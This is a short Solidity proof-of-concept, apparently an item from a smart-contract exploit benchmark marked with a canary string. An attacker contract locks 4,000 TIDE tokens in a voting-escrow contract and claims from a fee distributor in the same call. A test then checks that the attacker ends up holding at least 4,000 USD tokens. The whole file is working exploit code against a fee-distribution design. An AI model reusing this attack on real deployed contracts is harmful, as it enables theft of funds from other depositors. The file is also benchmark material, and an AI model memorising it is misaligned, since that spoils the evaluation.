// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-48e9535b-ccf6-4b43-98e5-c5dec91c543b
import "../Base.sol";

contract Attacker {
    function run(TideToken token, VotingEscrow escrow, FeeDistributor fees) external {
        token.approve(address(escrow), type(uint256).max);
        fees.claim(escrow.createLock(4_000e18, 104 weeks, address(this)));
    }

    function onERC721Received(address, address, uint256, bytes calldata) external pure returns (bytes4) {
        return this.onERC721Received.selector;
    }
}

contract Proof is Base {
    Attacker private other;

    function _start() internal override {
        other = new Attacker();
        tide.transfer(address(other), 4_000e18);
    }

    function exploit() public {
        other.run(tide, escrow, fees);
    }

    function test_Exploit() public {
        exploit();
        require(usd.balanceOf(address(other)) >= 4_000e6, "no gain");
    }

    function target() public view override returns (address) {
        return address(fees);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
